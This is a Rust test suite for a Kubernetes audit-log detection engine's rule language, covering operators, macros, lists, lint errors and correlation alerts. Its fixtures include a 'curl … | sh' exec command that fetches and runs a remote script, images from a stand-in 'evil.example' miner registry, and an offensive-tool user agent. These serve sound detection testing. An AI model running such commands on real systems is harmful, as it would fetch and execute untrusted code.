//! The rule language: operators, list semantics, macros and lists, and the errors and lint
//! findings for broken rules.

use detect::{DetectError, Engine, LintSeverity, RuleSet, lint};
use event::{ActorKind, Event};
use serde_json::json;

use crate::common::{self, audit, falco, image, pod_spec};

/// Wraps a condition (YAML, indented for `condition:`) in a one-rule document.
fn rule_with(condition: &str) -> String {
    format!(
        "rules:\n  - id: t.rule\n    title: Test rule\n    severity: low\n    condition:\n{condition}\n"
    )
}

/// Whether a one-rule document with `condition` matches `event`.
#[track_caller]
fn matches(condition: &str, event: impl Into<Event>) -> bool {
    let rules = RuleSet::from_yaml(&rule_with(condition), "test.yaml")
        .unwrap_or_else(|error| panic!("{error}"));
    let mut alerts = Vec::new();
    Engine::new(rules).evaluate(&event.into(), &mut alerts);
    alerts.len() == 1
}

#[track_caller]
fn compile_error(text: &str) -> String {
    match RuleSet::from_yaml(text, "test.yaml") {
        Ok(_) => panic!("expected an error for\n{text}"),
        Err(error) => error.to_string(),
    }
}

#[test]
fn string_operators() {
    let event = || audit("get", "pods").user("alice@example.com", ActorKind::Human);
    assert!(matches(
        "      {field: user, equals: alice@example.com}",
        event()
    ));
    assert!(!matches("      {field: user, equals: alice}", event()));
    assert!(matches(
        "      {field: user, in: [bob, alice@example.com]}",
        event()
    ));
    assert!(matches(
        "      {field: user, contains: \"@example\"}",
        event()
    ));
    assert!(matches(
        "      {field: user, starts_with: [bob, ali]}",
        event()
    ));
    assert!(matches("      {field: user, ends_with: .com}", event()));
    assert!(!matches("      {field: user, ends_with: .org}", event()));
    assert!(matches("      {field: user, regex: '^[a-z]+@'}", event()));
    assert!(!matches("      {field: user, regex: '^bob'}", event()));
    assert!(matches("      {field: user, glob: '*@example.*'}", event()));
    assert!(!matches("      {field: user, glob: 'bob*'}", event()));
}

#[test]
fn exists_numbers_and_cidr() {
    let event = || audit("get", "pods");
    assert!(matches("      {field: namespace, exists: true}", event()));
    assert!(matches(
        "      {field: subresource, exists: false}",
        event()
    ));
    assert!(!matches(
        "      {field: subresource, exists: true}",
        event()
    ));
    assert!(matches("      {field: response_code, gte: 200}", event()));
    assert!(matches("      {field: response_code, lt: 300}", event()));
    assert!(!matches("      {field: response_code, gt: 200}", event()));
    assert!(matches(
        "      {field: response_code, equals: 200}",
        event()
    ));
    assert!(matches(
        "      {field: response_code, in: [\"200\", 201]}",
        event()
    ));
    assert!(!matches(
        "      {field: response_code, lte: 199}",
        event().code(403)
    ));
    assert!(matches(
        "      {field: source_ips, cidr: 10.0.0.0/8}",
        event()
    ));
    assert!(matches(
        "      {field: source_ips, cidr: [192.168.0.0/16, 10.0.0.7]}",
        event()
    ));
    assert!(!matches(
        "      {field: source_ips, cidr: 172.16.0.0/12}",
        event()
    ));
}

#[test]
fn list_fields_match_any_element_and_contains_means_membership() {
    let event = || audit("get", "pods").groups(&["system:authenticated", "dev-team"]);
    assert!(matches(
        "      {field: user_groups, equals: dev-team}",
        event()
    ));
    assert!(matches(
        "      {field: user_groups, contains: dev-team}",
        event()
    ));
    // Membership, not substring, on list elements.
    assert!(!matches(
        "      {field: user_groups, contains: dev}",
        event()
    ));
    assert!(matches(
        "      {field: user_groups, starts_with: dev}",
        event()
    ));
    assert!(!matches(
        "      {field: user_groups, exists: false}",
        event()
    ));
    assert!(matches(
        "      {field: user_groups, exists: false}",
        event().groups(&[])
    ));
}

#[test]
fn raw_paths_fan_out_and_escape_dots() {
    let event = || {
        audit("create", "rolebindings").raw(json!({
            "requestObject": {
                "metadata": {"labels": {"app.kubernetes.io/name": "x"}, "annotations": {"n": 3}},
                "subjects": [{"kind": "User", "name": "a"}, {"kind": "Group", "name": "admins"}],
                "rules": [{"verbs": ["get"]}, {"verbs": ["list", "*"]}]
            }
        }))
    };
    assert!(matches(
        "      {field: raw.requestObject.subjects.name, equals: admins}",
        event()
    ));
    assert!(!matches(
        "      {field: raw.requestObject.subjects.name, equals: root}",
        event()
    ));
    assert!(matches(
        "      {field: raw.requestObject.rules.verbs, contains: \"*\"}",
        event()
    ));
    assert!(matches(
        r"      {field: raw.requestObject.metadata.labels.app\.kubernetes\.io/name, equals: x}",
        event()
    ));
    assert!(matches(
        r#"      {field: 'raw.requestObject.metadata.labels["app.kubernetes.io/name"]', equals: x}"#,
        event()
    ));
    assert!(matches(
        "      {field: raw.requestObject.metadata.annotations.n, gt: 2}",
        event()
    ));
    assert!(matches(
        "      {field: raw.requestObject.metadata, exists: true}",
        event()
    ));
    assert!(!matches(
        "      {field: raw.requestObject.spec, exists: true}",
        event()
    ));
    // Invalid raw JSON has no values.
    let mut broken: Event = event().into();
    broken.raw = "{not json".to_owned();
    assert!(matches(
        "      {field: raw.requestObject, exists: false}",
        broken
    ));
}

#[test]
fn combinators_and_for_any_binds_one_element() {
    let condition = "      all:\n        - {field: verb, equals: get}\n        - not: {field: user, starts_with: \"system:\"}\n        - any:\n            - {field: resource, equals: nodes}\n            - {field: resource, equals: pods}";
    assert!(matches(condition, audit("get", "pods")));
    assert!(!matches(condition, audit("get", "secrets")));
    assert!(!matches(
        condition,
        audit("get", "pods").user("system:admin", ActorKind::System)
    ));

    // Without for_any, two tests may be satisfied by two different containers.
    let two_containers = || {
        let mut spec = pod_spec(
            "Pod",
            &[("a", "one", Some(true)), ("b", "two", Some(false))],
        );
        spec.containers[1].run_as_user = Some(0);
        audit("create", "pods").pod(spec)
    };
    let loose = "      all:\n        - {field: pod_specs.containers.privileged, equals: true}\n        - {field: pod_specs.containers.run_as_user, equals: 0}";
    assert!(matches(loose, two_containers()));
    let bound = "      for_any: pod_specs.containers\n      where:\n        all:\n          - {field: pod_specs.containers.privileged, equals: true}\n          - {field: pod_specs.containers.run_as_user, equals: 0}";
    assert!(!matches(bound, two_containers()));
    let bound_b = "      for_any: pod_specs.containers\n      where:\n        all:\n          - {field: pod_specs.containers.name, equals: b}\n          - {field: pod_specs.containers.run_as_user, equals: 0}";
    assert!(matches(bound_b, two_containers()));

    let images = "      for_any: images\n      where:\n        all:\n          - {field: images.registry, equals: x.io}\n          - {field: images.tag, equals: v1}";
    let event = || audit("create", "pods").image(image("x.io/a:v2", "x.io", "a", Some("v2"), None));
    assert!(!matches(
        images,
        event().image(image("y.io/b:v1", "y.io", "b", Some("v1"), None))
    ));
    assert!(matches(
        images,
        event().image(image("x.io/c:v1", "x.io", "c", Some("v1"), None))
    ));
}

#[test]
fn lists_macros_and_the_builtin_library() {
    let text = r#"
lists:
  admins: [root, $more_admins]
  more_admins: [alice@example.com]
macros:
  is_admin: {field: user, in: $admins}
  admin_reading: {all: [is_admin, {field: verb, equals: get}]}
rules:
  - id: t.admin
    title: Admin reading
    severity: low
    condition: admin_reading
  - id: t.library
    title: Uses the built-in library
    severity: low
    condition:
      all:
        - {field: verb, equals: list}
        - non_system_identity
"#;
    let rules = RuleSet::from_yaml(text, "test.yaml").unwrap();
    let engine = Engine::new(rules);
    let fired = |event: Event| {
        let mut alerts = Vec::new();
        engine.evaluate(&event, &mut alerts);
        alerts
            .into_iter()
            .map(|alert| alert.rule_id)
            .collect::<Vec<_>>()
    };
    assert_eq!(fired(audit("get", "pods").into()), ["t.admin"]);
    assert_eq!(fired(audit("list", "pods").into()), ["t.library"]);
    assert!(
        fired(
            audit("list", "pods")
                .user("system:node:n1", ActorKind::Node)
                .into()
        )
        .is_empty()
    );
}

#[test]
fn include_denied_and_stages_gate_rules() {
    let text = "rules:\n  - id: t.denied\n    title: Denied too\n    severity: low\n    include_denied: true\n    stages: [ResponseStarted]\n    condition: {field: verb, equals: get}\n";
    let engine = Engine::new(RuleSet::from_yaml(text, "t").unwrap());
    let count = |event: Event| {
        let mut alerts = Vec::new();
        engine.evaluate(&event, &mut alerts);
        alerts.len()
    };
    assert_eq!(
        count(
            audit("get", "pods")
                .stage("ResponseStarted")
                .denied()
                .into()
        ),
        1
    );
    assert_eq!(count(audit("get", "pods").into()), 0);
}

#[test]
fn summary_fields_and_custom_fields_list() {
    let text = r#"
rules:
  - id: t.summary
    title: Summary
    severity: low
    condition: {all: [{field: verb, equals: get}, {field: user_groups, exists: true}]}
    summary: "{actor} did {verb} on {resource} in {namespace} ({subresource}) groups {user_groups} {{literal}}"
  - id: t.fields
    title: Fields
    severity: low
    condition: {field: verb, equals: get}
    fields: [user, source_ips, raw.objectRef.name]
"#;
    let engine = Engine::new(RuleSet::from_yaml(text, "t").unwrap());
    let mut alerts = Vec::new();
    let event: Event = audit("get", "pods")
        .groups(&["a", "b"])
        .raw(json!({"objectRef": {"name": "web"}}))
        .into();
    engine.evaluate(&event, &mut alerts);
    assert_eq!(
        alerts[0].summary,
        "alice@example.com did get on pods in team-a (-) groups a, b {literal}"
    );
    assert_eq!(
        alerts[0].fields,
        json!({"verb": "get", "user_groups": ["a", "b"]})
            .as_object()
            .unwrap()
            .clone()
    );
    assert_eq!(
        alerts[1].fields,
        json!({"user": "alice@example.com", "source_ips": ["10.0.0.7"], "raw.objectRef.name": "web"}).as_object().unwrap().clone()
    );
}

#[test]
fn compile_errors_name_the_rule_and_the_problem() {
    let unknown_field = compile_error(&rule_with("      {field: verbz, equals: get}"));
    assert!(
        unknown_field.contains("t.rule") && unknown_field.contains("unknown field `verbz`"),
        "{unknown_field}"
    );
    let bad_regex = compile_error(&rule_with("      {field: user, regex: '([a-z'}"));
    assert!(
        bad_regex.contains("t.rule") && bad_regex.contains("bad regex"),
        "{bad_regex}"
    );
    let unknown_macro = compile_error(&rule_with("      not_a_macro"));
    assert!(
        unknown_macro.contains("unknown macro `not_a_macro`"),
        "{unknown_macro}"
    );
    let unknown_list = compile_error(&rule_with("      {field: user, in: $nope}"));
    assert!(
        unknown_list.contains("unknown list `nope`"),
        "{unknown_list}"
    );
    let unknown_op = compile_error(&rule_with("      {field: user, like: x}"));
    assert!(
        unknown_op.contains("unknown operator `like`"),
        "{unknown_op}"
    );
    let two_ops = compile_error(&rule_with("      {field: user, equals: x, contains: y}"));
    assert!(two_ops.contains("several operators"), "{two_ops}");
    let bad_cidr = compile_error(&rule_with("      {field: source_ips, cidr: 10.0.0.0/33}"));
    assert!(bad_cidr.contains("bad CIDR"), "{bad_cidr}");
    let bad_template = compile_error(
        "rules:\n  - id: t.x\n    title: x\n    severity: low\n    condition: {field: verb, equals: get}\n    summary: \"{nope}\"\n",
    );
    assert!(
        bad_template.contains("in summary") && bad_template.contains("unknown field `nope`"),
        "{bad_template}"
    );
    let recursive = compile_error(
        "macros:\n  a: b\n  b: a\nrules:\n  - id: t.x\n    title: x\n    severity: low\n    condition: a\n",
    );
    assert!(recursive.contains("refers to itself"), "{recursive}");
    let bad_severity = compile_error(
        "rules:\n  - id: t.x\n    title: x\n    severity: severe\n    condition: {field: verb, equals: get}\n",
    );
    assert!(
        bad_severity.contains("t.x") && bad_severity.contains("severe"),
        "{bad_severity}"
    );
    let bad_id = compile_error(
        "rules:\n  - id: T X\n    title: x\n    severity: low\n    condition: {field: verb, equals: get}\n",
    );
    assert!(bad_id.contains("rule ids use"), "{bad_id}");
    let not_yaml = compile_error("rules: [\n");
    assert!(
        not_yaml.starts_with("failed to parse rules in test.yaml"),
        "{not_yaml}"
    );
    let unknown_key = compile_error("rule: []\n");
    assert!(
        unknown_key.contains("unknown field `rule`"),
        "{unknown_key}"
    );
}

#[test]
fn duplicate_ids_are_errors() {
    let one = "rules:\n  - id: t.x\n    title: x\n    severity: low\n    condition: {field: verb, equals: get}\n";
    let twice = format!(
        "{one}  - id: t.x\n    title: y\n    severity: low\n    condition: {{field: verb, equals: list}}\n"
    );
    assert!(compile_error(&twice).contains("duplicate rule id t.x"));
    let mut set = RuleSet::from_yaml(one, "a.yaml").unwrap();
    let error = set
        .extend(RuleSet::from_yaml(one, "b.yaml").unwrap())
        .unwrap_err();
    assert!(
        matches!(&error, DetectError::DuplicateRule { rule_id, first, second }
        if rule_id == "t.x" && first == "a.yaml" && second == "b.yaml")
    );
    let mut builtin = RuleSet::builtin().unwrap();
    let before = builtin.len();
    builtin
        .extend(RuleSet::from_yaml(one, "a.yaml").unwrap())
        .unwrap();
    assert_eq!(builtin.len(), before + 1);
}

#[test]
fn lint_reports_every_problem() {
    let text = r#"
lists:
  unused_list: [a]
macros:
  broken_macro: {field: nope, equals: x}
rules:
  - id: t.ok
    title: Fine
    severity: low
    attack: [T1609]
    description: A fine rule.
    condition: {field: verb, equals: get}
    tests:
      - {events: [{verb: get}], expect: 1}
      - {events: [{verb: list}], expect: 0}
  - id: t.bad_field
    title: Bad field
    severity: low
    condition: {field: verbz, equals: get}
  - id: t.bad_regex
    title: Bad regex
    severity: low
    condition: {field: user, regex: '(('}
  - id: t.unknown_macro
    title: Unknown macro
    severity: low
    condition: missing_macro
  - id: t.ok
    title: Duplicate
    severity: low
    condition: {field: verb, equals: list}
  - id: t.warn
    title: Warnings
    severity: low
    attack: [X1]
    condition: {field: user, equals: bob}
"#;
    let findings = lint(text, "test.yaml");
    let errors: Vec<(Option<&str>, &str)> = findings
        .iter()
        .filter(|finding| finding.severity == LintSeverity::Error)
        .map(|finding| (finding.rule_id.as_deref(), finding.message.as_str()))
        .collect();
    let has_error = |rule: Option<&str>, needle: &str| {
        errors
            .iter()
            .any(|(id, message)| *id == rule && message.contains(needle))
    };
    assert!(
        has_error(Some("t.bad_field"), "unknown field `verbz`"),
        "{errors:?}"
    );
    assert!(has_error(Some("t.bad_regex"), "bad regex"), "{errors:?}");
    assert!(
        has_error(Some("t.unknown_macro"), "unknown macro `missing_macro`"),
        "{errors:?}"
    );
    assert!(
        has_error(Some("t.ok"), "duplicate rule id t.ok"),
        "{errors:?}"
    );
    assert!(has_error(None, "macro broken_macro"), "{errors:?}");
    assert_eq!(errors.len(), 5, "{errors:?}");
    let warnings: Vec<String> = findings
        .iter()
        .filter(|finding| finding.severity == LintSeverity::Warning)
        .map(|finding| format!("{:?}: {}", finding.rule_id, finding.message))
        .collect();
    let has_warning = |needle: &str| warnings.iter().any(|warning| warning.contains(needle));
    assert!(
        has_warning("Some(\"t.warn\"): `X1` is not an ATT&CK technique id"),
        "{warnings:?}"
    );
    assert!(
        has_warning("Some(\"t.warn\"): no description"),
        "{warnings:?}"
    );
    assert!(
        has_warning("Some(\"t.warn\"): no top-level `verb` or `resource` test"),
        "{warnings:?}"
    );
    assert!(
        has_warning("list `unused_list` is not used"),
        "{warnings:?}"
    );
    assert!(
        has_warning("Some(\"t.warn\"): no inline test that must alert"),
        "{warnings:?}"
    );
    assert!(!has_warning("Some(\"t.ok\")"), "{warnings:?}");
    assert_eq!(lint("rules: [", "x.yaml")[0].severity, LintSeverity::Error);
}

#[test]
fn load_reads_a_file_or_a_directory() {
    let dir = std::env::temp_dir().join(format!("detect-load-test-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("a.yaml"), "lists:\n  people: [bob]\n").unwrap();
    std::fs::write(
        dir.join("b.yml"),
        "rules:\n  - id: t.bob\n    title: Bob\n    severity: low\n    condition: {field: user, in: $people}\n",
    )
    .unwrap();
    std::fs::write(dir.join("notes.txt"), "not rules").unwrap();
    let from_dir = RuleSet::load(&dir).unwrap();
    assert_eq!(
        from_dir
            .rules()
            .map(|rule| rule.id.as_str())
            .collect::<Vec<_>>(),
        ["t.bob"]
    );
    // Alone, b.yml misses the list that a.yaml defines.
    let alone = RuleSet::load(&dir.join("b.yml")).unwrap_err().to_string();
    assert!(alone.contains("unknown list `people`"), "{alone}");
    let missing = RuleSet::load(&dir.join("missing.yaml")).unwrap_err();
    assert!(
        matches!(missing, DetectError::ReadRules { .. }),
        "{missing}"
    );
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn readme_rule_example_compiles_and_matches() {
    let readme = include_str!("../../README.md");
    let start = readme
        .find("```yaml\nlists:")
        .expect("README has the example")
        + "```yaml\n".len();
    let example = &readme[start..start + readme[start..].find("```").unwrap()];
    let engine = Engine::new(RuleSet::from_yaml(example, "README.md").unwrap());
    let mut alerts = Vec::new();
    let write = |user: &str| {
        audit("patch", "configmaps")
            .namespace(Some("kube-system"))
            .user(user, ActorKind::Human)
    };
    engine.evaluate(&write("mallory@example.com").into(), &mut alerts);
    engine.evaluate(&write("pager@example.com").into(), &mut alerts);
    assert_eq!(alerts.len(), 1);
    assert_eq!(
        alerts[0].summary,
        "mallory@example.com ran patch on configmap kube-system/-"
    );
}

/// The alerts of a one-rule document (rule `t.rule`) over `events`, through a `Detector`.
fn detector_alerts(rule: &str, events: &[Event]) -> Vec<event::Alert> {
    let rules = RuleSet::from_yaml(rule, "test.yaml").unwrap_or_else(|error| panic!("{error}"));
    let engine = std::sync::Arc::new(Engine::new(rules));
    let mut detector = detect::Detector::new(engine, detect::StateLimits::default());
    let mut alerts = Vec::new();
    detector.process_batch(events, &mut alerts);
    alerts
}

#[test]
fn equals_field_compares_two_fields() {
    let sa = |namespace: &str| {
        audit("get", "secrets")
            .user(
                "system:serviceaccount:team-a:app",
                ActorKind::Serviceaccount,
            )
            .namespace(Some(namespace))
    };
    let same = "      {field: namespace, equals_field: sa_namespace}";
    assert!(matches(same, sa("team-a")));
    assert!(!matches(same, sa("payments")));
    // A missing field on either side fails the test, so `not` holds.
    assert!(!matches(same, audit("get", "secrets")));
    assert!(matches(
        "      not: {field: namespace, equals_field: sa_namespace}",
        audit("get", "secrets")
    ));
    assert!(!matches(same, sa("team-a").namespace(None)));
    // Lists: some value of one equals some value of the other; numbers by value.
    let raw = || {
        audit("create", "pods").raw(json!({"requestObject": {
            "a": [1, 2, 3], "b": 3.0, "c": "x", "d": {"k": [1]}, "e": {"k": [1]}, "f": "3"
        }}))
    };
    assert!(matches(
        "      {field: raw.requestObject.a, equals_field: raw.requestObject.b}",
        raw()
    ));
    assert!(!matches(
        "      {field: raw.requestObject.a, equals_field: raw.requestObject.c}",
        raw()
    ));
    assert!(!matches(
        "      {field: raw.requestObject.b, equals_field: raw.requestObject.f}",
        raw()
    ));
    assert!(matches(
        "      {field: raw.requestObject.d, equals_field: raw.requestObject.e}",
        raw()
    ));
    // Inside `for_any`, both fields read the bound element.
    let images = audit("create", "pods")
        .image(image("a.io/x:1", "a.io", "x", Some("1"), None))
        .image(image("b.io/y:2", "b.io", "y", Some("2"), None))
        .namespace(Some("b.io"));
    assert!(matches(
        "      for_any: images\n      where:\n        all:\n          - {field: images.registry, equals_field: namespace}\n          - {field: images.tag, equals: \"2\"}",
        images
    ));
    // The other field joins the alert's default fields.
    let rules = RuleSet::from_yaml(&rule_with(same), "t").unwrap();
    let mut alerts = Vec::new();
    Engine::new(rules).evaluate(&sa("team-a").into(), &mut alerts);
    assert_eq!(alerts[0].fields["sa_namespace"], "team-a");
    assert_eq!(alerts[0].fields["namespace"], "team-a");
    // Errors.
    assert!(
        compile_error(&rule_with(
            "      {field: namespace, equals_field: $system_namespaces}"
        ))
        .contains("takes a field name, not a list")
    );
    assert!(
        compile_error(&rule_with("      {field: namespace, equals_field: nope}"))
            .contains("unknown field `nope`")
    );
    assert!(
        compile_error(&rule_with("      {field: namespace, equals_field: [a, b]}"))
            .contains("takes a field name")
    );
}

#[test]
fn service_account_fields_come_from_the_user_name() {
    let sa = |user: &str| audit("get", "pods").user(user, ActorKind::Serviceaccount);
    let event = || sa("system:serviceaccount:team-a:app");
    assert!(matches(
        "      {field: sa_namespace, equals: team-a}",
        event()
    ));
    assert!(matches("      {field: sa_name, equals: app}", event()));
    for user in [
        "alice@example.com",
        "system:serviceaccount:team-a",
        "system:serviceaccount::app",
        "system:node:worker-1",
    ] {
        assert!(
            matches("      {field: sa_namespace, exists: false}", sa(user)),
            "{user}"
        );
        assert!(
            matches("      {field: sa_name, exists: false}", sa(user)),
            "{user}"
        );
    }
}

#[test]
fn exec_command_line_joins_the_arguments() {
    let exec = || {
        audit("create", "pods").subresource("exec").exec(&[
            "sh",
            "-c",
            "curl -s http://203.0.113.9/x | sh",
        ])
    };
    assert!(matches(
        "      {field: exec_command_line, equals: \"sh -c curl -s http://203.0.113.9/x | sh\"}",
        exec()
    ));
    assert!(matches(
        "      {field: exec_command_line, contains: \"-c curl\"}",
        exec()
    ));
    assert!(matches(
        "      {field: exec_command_line, regex: 'sh -c .*\\| *sh$'}",
        exec()
    ));
    // Argument by argument, `-c curl` is in none of them.
    assert!(!matches(
        "      {field: exec_command, contains: \"-c curl\"}",
        exec()
    ));
    assert!(matches(
        "      {field: exec_command_line, exists: false}",
        audit("get", "pods")
    ));
    let rules = RuleSet::from_yaml(
        "rules:\n  - {id: t.rule, title: t, severity: low, condition: {field: exec_command_line, exists: true}, summary: \"ran {exec_command_line}\"}\n",
        "t",
    )
    .unwrap();
    let mut alerts = Vec::new();
    Engine::new(rules).evaluate(&exec().into(), &mut alerts);
    assert_eq!(
        alerts[0].summary,
        "ran sh -c curl -s http://203.0.113.9/x | sh"
    );
    assert_eq!(
        alerts[0].fields["exec_command_line"],
        "sh -c curl -s http://203.0.113.9/x | sh"
    );
}

#[test]
fn source_ip_last_is_the_connection_address() {
    let mut event: Event = audit("get", "pods").into();
    event.source_ips = vec!["10.0.0.1".to_owned(), "198.51.100.7".to_owned()];
    assert!(matches(
        "      {field: source_ip_last, equals: 198.51.100.7}",
        event.clone()
    ));
    assert!(matches(
        "      {field: source_ips, cidr: 10.0.0.0/8}",
        event.clone()
    ));
    assert!(!matches(
        "      {field: source_ip_last, cidr: 10.0.0.0/8}",
        event.clone()
    ));
    event.source_ips.clear();
    assert!(matches(
        "      {field: source_ip_last, exists: false}",
        event
    ));
}

#[test]
fn pod_security_levels_come_from_the_annotations() {
    let annotated = |annotations: serde_json::Value| {
        audit("create", "pods").raw(json!({"kind": "Event", "annotations": annotations}))
    };
    let both = || {
        annotated(json!({
            "pod-security.kubernetes.io/enforce-policy": "baseline:v1.31",
            "pod-security.kubernetes.io/audit-violations": "would violate PodSecurity \"restricted:latest\": runAsNonRoot != true (pod must set securityContext.runAsNonRoot=true)"
        }))
    };
    assert!(matches(
        "      {field: psa_audit_level, equals: restricted}",
        both()
    ));
    assert!(matches(
        "      {field: psa_enforce_level, equals: baseline}",
        both()
    ));
    let none = || annotated(json!({"authorization.k8s.io/decision": "allow"}));
    assert!(matches(
        "      {field: psa_audit_level, exists: false}",
        none()
    ));
    assert!(matches(
        "      {field: psa_enforce_level, exists: false}",
        none()
    ));
    assert!(matches(
        "      {field: psa_audit_level, exists: false}",
        annotated(json!({"pod-security.kubernetes.io/audit-violations": "something else"}))
    ));
    // The built-in violation rules report them.
    let mut event: Event = both().into();
    event.user = Some("alice@example.com".to_owned());
    event.psa_violations =
        vec!["runAsNonRoot != true (pod must set securityContext.runAsNonRoot=true)".to_owned()];
    let alerts = common::alerts_for(&event);
    let alert = alerts
        .iter()
        .find(|alert| alert.rule_id == "k8s.psa_restricted_violation")
        .expect("the restricted violation rule fires");
    assert_eq!(alert.fields["psa_audit_level"], "restricted");
    assert_eq!(alert.fields["psa_enforce_level"], "baseline");
}

#[test]
fn image_registries_added_are_the_registries_of_new_images() {
    let rule = "rules:\n  - id: t.rule\n    title: t\n    severity: low\n    condition:\n      all:\n        - {field: verb, in: [create, update, patch]}\n        - {field: changes.image_registries_added, exists: true}\n        - not: {field: changes.image_registries_added, in: $trusted_registries}\n    fields: [changes.images_added, changes.image_registries_added]\n";
    let write = |verb: &str, images: &[&str]| -> Event {
        let containers: Vec<(&str, &str, Option<bool>)> =
            images.iter().map(|image| ("c", *image, None)).collect();
        let mut event: Event = audit(verb, "deployments")
            .name("web")
            .pod(pod_spec("Deployment", &containers))
            .into();
        // One container name per image.
        for (index, container) in event.pod_specs[0].containers.iter_mut().enumerate() {
            container.name = format!("c{index}");
        }
        event
    };
    let events = [
        write("create", &["nginx:1.27"]),
        write("update", &["nginx:1.28"]),
        write(
            "update",
            &[
                "nginx:1.28",
                "evil.example:5000/miner:1",
                "evil.example:5000/x:2",
            ],
        ),
    ];
    let alerts = detector_alerts(rule, &events);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert_eq!(
        alerts[0].fields["changes.image_registries_added"],
        json!(["evil.example:5000"])
    );
    assert_eq!(
        alerts[0].fields["changes.images_added"],
        json!(["evil.example:5000/miner:1", "evil.example:5000/x:2"])
    );
}

#[test]
fn a_sequence_across_sources_is_a_correlation_alert() {
    let rule = "rules:\n  - id: t.rule\n    title: t\n    severity: low\n    stages: [ResponseStarted, ResponseComplete]\n    condition: {field: subresource, equals: exec}\n    sequence:\n      within: 5m\n      by: [namespace, name]\n      then:\n        - condition: {any: [{field: falco_rule, exists: true}, {field: verb, equals: delete}]}\n          by: [namespace, pod_name]\n";
    let exec: Event = audit("create", "pods")
        .subresource("exec")
        .name("web-0")
        .into();
    let mut shell: Event = falco("Terminal shell in container", "Notice").into();
    shell.time = exec.time + 1_000_000;
    shell.event_id = "f".repeat(32);
    let alerts = detector_alerts(rule, &[exec.clone(), shell]);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].source, event::AlertSource::Correlation);
    // Every step from audit events: an audit alert.
    let mut delete: Event = audit("delete", "pods").into();
    delete.time = exec.time + 1_000_000;
    delete.event_id = "d".repeat(32);
    delete.pod_name = Some("web-0".to_owned());
    let alerts = detector_alerts(rule, &[exec, delete]);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].source, event::AlertSource::K8sAudit);
}

#[test]
fn raw_shortcuts_do_not_change_results() {
    // A value spelled with JSON escapes still matches (the text search cannot see it, so the
    // document is parsed).
    let escaped = |body: &str| {
        let mut event: Event = audit("create", "services").into();
        event.raw = format!(r#"{{"requestObject":{body}}}"#);
        event
    };
    let node_port = "      {field: raw.requestObject.spec.type, equals: NodePort}";
    assert!(matches(
        node_port,
        escaped(r#"{"spec":{"type":"NodePort"}}"#)
    ));
    assert!(matches(
        node_port,
        escaped(r#"{"spec":{"type":"\u004eodePort"}}"#)
    ));
    assert!(matches(
        node_port,
        escaped(r#"{"spec":{"\u0074ype":"NodePort"}}"#)
    ));
    assert!(!matches(
        node_port,
        escaped(r#"{"spec":{"type":"ClusterIP"}}"#)
    ));
    let path = "      {field: raw.requestObject.rules.resources, in: [pods/exec]}";
    assert!(matches(
        path,
        escaped(r#"{"rules":[{"resources":["pods\/exec"]}]}"#)
    ));
    assert!(matches(
        path,
        escaped(r#"{"rules":[{"resources":["pods/exec"]}]}"#)
    ));
    assert!(!matches(
        path,
        escaped(r#"{"rules":[{"resources":["pods/log"]}]}"#)
    ));
    // A test on a path needs its last key in the text.
    let external = "      {field: raw.requestObject.spec.externalIPs, regex: '.'}";
    assert!(matches(
        external,
        escaped(r#"{"spec":{"externalIPs":["1.2.3.4"]}}"#)
    ));
    assert!(!matches(
        external,
        escaped(r#"{"spec":{"ports":[{"port":80}]}}"#)
    ));
    // Only the paths rules read are parsed, but a path's value is kept whole: an alert field
    // naming an object shows all of it, next to a condition reading inside it.
    let rule = "rules:\n  - id: t.rule\n    title: t\n    severity: low\n    condition: {field: raw.requestObject.metadata.labels.app, equals: web}\n    fields: [raw.requestObject.metadata, raw.requestObject.spec.ports.port]\n";
    let event = escaped(
        r#"{"metadata":{"name":"web","labels":{"app":"web"},"annotations":{"a":"b"}},"spec":{"type":"ClusterIP","ports":[{"port":80},{"port":443}]},"status":{"x":1}}"#,
    );
    let mut alerts = Vec::new();
    Engine::new(RuleSet::from_yaml(rule, "t").unwrap()).evaluate(&event, &mut alerts);
    assert_eq!(alerts.len(), 1);
    assert_eq!(
        alerts[0].fields["raw.requestObject.metadata"],
        json!({"name": "web", "labels": {"app": "web"}, "annotations": {"a": "b"}})
    );
    assert_eq!(
        alerts[0].fields["raw.requestObject.spec.ports.port"],
        json!([80, 443])
    );
}

#[test]
fn empty_lists_compile_and_match_nothing() {
    // Lists a configuration empties (or a rule file defines empty) compile, and a test on
    // them matches nothing, whatever the operator: an empty alternation of regexes would
    // otherwise match every value.
    let text = |condition: &str| {
        format!(
            "lists:\n  none: []\n  also_none: [$none]\nrules:\n  - id: t.rule\n    title: Test rule\n    severity: low\n    condition: {condition}\n"
        )
    };
    let event = || {
        audit("get", "pods")
            .user("alice@example.com", ActorKind::Human)
            .build()
    };
    for condition in [
        "{field: user, in: $none}",
        "{field: user, in: [$none, $also_none]}",
        "{field: user, equals: $also_none}",
        "{field: user, contains: $none}",
        "{field: user, starts_with: $none}",
        "{field: user, ends_with: $none}",
        "{field: user, regex: $none}",
        "{field: user, regex: [$none, $also_none]}",
        "{field: user, glob: $none}",
        "{field: source_ips, cidr: $none}",
        "{field: raw.requestObject.kind, equals: $none}",
    ] {
        let rules = RuleSet::from_yaml(&text(condition), "t.yaml")
            .unwrap_or_else(|error| panic!("{condition}: {error}"));
        let mut alerts = Vec::new();
        Engine::new(rules).evaluate(&event(), &mut alerts);
        assert!(alerts.is_empty(), "{condition} matched");
        // `not` of such a test holds.
        let negated = RuleSet::from_yaml(&text(&format!("{{not: {condition}}}")), "t.yaml")
            .unwrap_or_else(|error| panic!("{condition}: {error}"));
        Engine::new(negated).evaluate(&event(), &mut alerts);
        assert_eq!(alerts.len(), 1, "not: {condition}");
    }
    // An empty list written in the rule itself is still a mistake.
    assert!(compile_error(&text("{field: user, in: []}")).contains("empty list of values"));

    // A built-in regex list emptied from the configuration disables its rule instead of
    // making it match every request.
    let config = detect::Config {
        lists: [("offensive_user_agents".to_owned(), Vec::new())].into(),
        ..detect::Config::default()
    };
    let engine = Engine::new(config.load_rules().unwrap());
    let mut alerts = Vec::new();
    engine.evaluate(&event(), &mut alerts);
    engine.evaluate(
        &audit("get", "pods").user_agent("kube-hunter/0.6.8").build(),
        &mut alerts,
    );
    assert!(
        alerts
            .iter()
            .all(|alert| alert.rule_id != "k8s.offensive_tool_user_agent"),
        "{alerts:?}"
    );
}

